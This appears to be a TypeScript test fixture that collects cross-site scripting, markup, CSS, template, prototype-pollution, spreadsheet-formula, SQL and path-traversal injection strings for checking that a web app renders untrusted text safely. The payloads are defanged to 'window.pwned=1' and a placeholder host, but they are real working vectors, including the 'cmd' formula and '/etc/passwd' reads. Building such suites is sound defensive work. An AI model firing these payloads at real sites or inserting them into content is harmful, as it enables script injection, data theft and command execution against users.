/** What a payload does if anything of it ever runs. */
const RUN = 'window.pwned=1';
/** An address that nothing may ever ask for. */
const ELSEWHERE = 'https://elsewhere.invalid/x';

type Table = Readonly<Record<string, readonly string[]>>;

/** Marks that end what a text may have been put into. */
const BREAKS = ['', '">', "'>", '-->', '</title>', '</textarea>', '</script>', '</style>', ']]>'];

const HANDLERS = [
  `<img src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<iframe onload=${RUN}></iframe>`,
];

const SINGLE_HANDLERS = [
  ...['audio src=x onerror', 'body onload', 'body onpageshow', 'marquee onstart', 'object onerror'],
  ...['select autofocus onfocus', 'textarea autofocus onfocus', 'a href=# autofocus onfocus'],
  ...['p style=animation-name:x onanimationstart', 'xss id=x tabindex=1 onfocus', 'embed onload'],
  ...['div popover id=search-hint onbeforetoggle', 'p contenteditable autofocus onfocus'],
  ...['link rel=stylesheet href=x onerror', 'style onload', 'img srcset=x onerror'],
  ...['image src=x onerror', 'video poster=x onloadstart', 'dialog open onclose'],
  ...['p onpointerrawupdate', 'p onscrollend style=overflow:auto', 'keygen autofocus onfocus'],
].map((head) => `<${head}=${RUN}>`);

/** Where a text stands in an attribute, or in the JSON or the code of a page. */
const ESCAPES = [
  ...['"', "'", '`', '" x="', "' x='"].map((quote) => `${quote} autofocus onfocus=${RUN} `),
  ...['"', "'", '`'].map((quote) => `${quote};${RUN};//`),
  ...['"', "'", '`'].map((quote) => `${quote}-${RUN}-${quote}`),
  `\\";${RUN};//`,
  `\\u0022;${RUN};//`,
  `\u2028${RUN}\u2029`,
  `"}]}</script><script>${RUN}</script>`,
  `*/${RUN}/*`,
];

const SCRIPTS = [
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script/x>${RUN}</script\t>`,
  `<script src=${ELSEWHERE}></script>`,
  `<script type=module>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<noscript><p title="</noscript><script>${RUN}</script>">`,
  `<template><script>${RUN}</script></template>`,
  `<!--><script>${RUN}</script>-->`,
  `<![CDATA[><script>${RUN}</script>]]>`,
  `<?xml version="1.0"?><script>${RUN}</script>`,
  `<\u0000script>${RUN}</script>`,
  `<script\u2028>${RUN}</script>`,
];

const SCHEMES = [
  ...['javascript:', 'JaVaScRiPt:', 'java\tscript:', 'java\nscript:', '\u0001javascript:'],
  ...[' javascript:', 'javascript\u3000:', 'vbscript:', 'javascript&colon;', 'java&#10;script:'],
  ...['javascript://%0a', 'javascript:%77indow.x;', 'data:text/javascript,', 'view-source:'],
].map((scheme) => scheme + RUN);

const ADDRESSES = [
  ...SCHEMES,
  `data:text/html,<script>${RUN}</script>`,
  `blob:${ELSEWHERE}`,
  ELSEWHERE,
  ELSEWHERE.slice('https:'.length),
  `/\\${ELSEWHERE.slice('https://'.length)}`,
  `../../../../${ELSEWHERE}`,
  'file:///etc/passwd',
];

const MARKDOWN = [
  `[点此](javascript:${RUN})`,
  `[点此](<javascript:${RUN}> "题")`,
  `![图](x" onerror="${RUN})`,
  `![图](${ELSEWHERE})`,
  `<javascript:${RUN}>`,
  `<${ELSEWHERE}>`,
  `[点此]: javascript:${RUN}`,
  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
  `:::box[<img src=x onerror=${RUN}>]`,
  `::title[x]{onclick="${RUN}" style="color:red"}`,
  `:text[x]{.hidden #main onclick=${RUN}}`,
  `甲 | 乙 <b onclick=${RUN}> | 丙`,
  '[^1]: <u>脚注</u>',
  `**<b onclick=${RUN}>甲。</b>**乙`,
];

const MARKUP = [
  `<svg><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=9>甲</text></a></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}/>#x"></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<math href="javascript:${RUN}">甲</math>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<iframe src="javascript:parent.${RUN}">`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="${ELSEWHERE}">`,
  `<base href="${ELSEWHERE}">`,
  `<meta http-equiv=refresh content="0;url=${ELSEWHERE}">`,
  '<meta http-equiv=Content-Security-Policy content="script-src *">',
  `<link rel=stylesheet href="${ELSEWHERE}">`,
  `<link rel=prefetch href="${ELSEWHERE}">`,
  `<form action="${ELSEWHERE}"><button>甲</button></form>`,
  `<button formaction="javascript:${RUN}">甲</button>`,
  `<a href="javascript:${RUN}" id=pwned>甲</a>`,
  '<form id=document><input name=body></form>',
  '<img name=getElementById>',
  '<a id=trustedTypes><a id=trustedTypes name=createPolicy>',
  '<dialog open>甲</dialog>',
  '<plaintext>',
  '<xmp>',
  '<table><tr><td>甲',
  '<div style="position:fixed;inset:0">甲</div>',
];

const CSS = [
  `</style><style>*{background:url(${ELSEWHERE})}`,
  `@import "${ELSEWHERE}";`,
  `body{background:url(${ELSEWHERE})}`,
  `expression(${RUN})`,
  `;background:url(javascript:${RUN})`,
  `x}*{display:none}`,
  '\\3c script\\3e',
];

const TEMPLATES = [
  ...[`{{constructor.constructor("${RUN}")()}}`, '{{7*7}}', '<%= 7*7 %>', '#{7*7}', '{% x %}'],
  ...[`\${${RUN}}`, '$&', "$'", '$`', '$1', '%s%n', '[[7*7]]', '*{7*7}', '@(7*7)'],
];

const ENTITIES = [
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `&#x3c;svg onload=${RUN}&#x3e;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `%253Cscript%253E${RUN}`,
  `\\u003cscript\\u003e${RUN}`,
  `\\x3cscript\\x3e${RUN}`,
  `＜script＞${RUN}＜/script＞`,
  `+ADw-script+AD4-${RUN}`,
  '&NewLine;&Tab;&ZeroWidthSpace;',
  '&amp;amp;lt;',
];

const UNICODE = [
  ...['\u0000', '\ufeff水', '\ud800', '\udfff水\ud800', '\u202e水土', '\u2066水\u2069', '\u200b水'],
  ...[
    '水\u0000土',
    '\u0007\u001b[31m水',
    '\ufffe\uffff',
    '𠀀𠀁',
    '👩‍👩‍👧‍👦',
    'İıſK',
    'ﷺ'.repeat(40),
  ],
  ...[`水${'\u0301'.repeat(200)}`, '\u034f', '水\u2028土', '水\u0085土', '﹤script﹥', '\u180e'],
];

const NAMES = [
  ...['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', 'then'],
  ...['__proto__[pwned]=1', 'constructor.prototype.pwned', '__defineGetter__', 'null', 'undefined'],
  ...['NaN', '[object Object]', '-1', '1e309', 'true', 'length', 'default', 'con', '..', '.'],
];

const FORMULAS = [
  `=HYPERLINK("${ELSEWHERE}","水")`,
  "=cmd|' /C calc'!A0",
  '+1+cmd',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
];

const PATTERNS = [
  ...['(a+)+$', '.*', '[', '\\', '(?<=', '{1,99999}', "' OR 1=1 --", '../../etc/passwd', '*', '^$'],
  ...['"', '((((((((', '))))', '|||', 'NEAR/9999', '~-~-', '年:', '“', '：', '-', '~'],
];

/** Too wide for any screen, if nothing breaks them. */
const WIDE = ['W'.repeat(2000), '水'.repeat(2000), '—'.repeat(2000), '\u00a0'.repeat(500), '\t水'];

/** Texts that would run, load, lead elsewhere or break a page, if they were taken for more than text. */
export const PAYLOADS: Table = {
  script: BREAKS.map((mark) => `${mark}<script>${RUN}</script>`).concat(SCRIPTS),
  handler: BREAKS.slice(0, 4)
    .flatMap((mark) => HANDLERS.map((one) => mark + one))
    .concat(SINGLE_HANDLERS),
  escape: ESCAPES,
  address: ADDRESSES,
  markdown: MARKDOWN,
  markup: MARKUP,
  css: CSS,
  template: TEMPLATES,
  entity: ENTITIES,
  unicode: UNICODE,
  name: NAMES,
  formula: FORMULAS,
  pattern: PATTERNS,
  wide: WIDE,
};

export const EVERY_PAYLOAD: readonly string[] = Object.values(PAYLOADS).flat();
